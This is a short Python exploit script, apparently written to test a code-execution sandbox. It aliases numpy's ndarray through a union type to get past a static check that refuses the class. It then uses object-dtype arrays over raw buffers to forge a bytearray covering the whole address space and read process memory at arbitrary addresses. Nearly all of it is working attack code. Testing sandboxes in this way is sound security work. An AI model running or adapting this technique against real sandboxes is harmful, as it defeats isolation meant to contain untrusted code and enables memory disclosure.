# source: numpy ndarray.__new__(shape, dtype, buffer) with object dtype takes 8 bytes as an object pointer (sandexec README, "The static check",'s np.ndarray((1,), object, b)); CPython: `X | X` of one class is X; object.__hash__ is the rotated address; bytearray's C layout (3.11)
# family: type alias of a refused class (union collapsing to np.ndarray) called with a buffer: fake object -> arbitrary memory read
# goal: forge a bytearray spanning the address space and read process memory at arbitrary addresses (the C string tp_name of a type object)
import numpy as np
Arr = np.ndarray | np.ndarray
M = (1 << 64) - 1
def addr_of(o):
    h = hash(o) & M
    return ((h << 4) | (h >> 60)) & M
def obj_at(p):
    return Arr((1,), object, np.array([p], dtype=np.int64).tobytes())[0]
class Box:
    __slots__ = ("a", "b", "c")
tp = addr_of(bytearray)
fake = np.array([1 << 40, tp, 1 << 62, 1 << 62, 0, 0, 0, 0], dtype=np.int64).tobytes()
box = Box()
box.a = float
box.b = fake
box.c = None
leak = obj_at(addr_of(box) + 8)
fake_addr = int.from_bytes(np.float64(leak).tobytes(), "little")
del leak
mem = obj_at(fake_addr + 32)
print("forged object:", type(mem).__name__, "covering", len(mem), "bytes from address 0")
name_ptr = int.from_bytes(bytes(mem[tp + 24:tp + 32]), "little")
print("read at", hex(name_ptr), ":", bytes(mem[name_ptr:name_ptr + 9]))
t2 = addr_of(dict)
p2 = int.from_bytes(bytes(mem[t2 + 24:t2 + 32]), "little")
print("read at", hex(p2), ":", bytes(mem[p2:p2 + 4]))
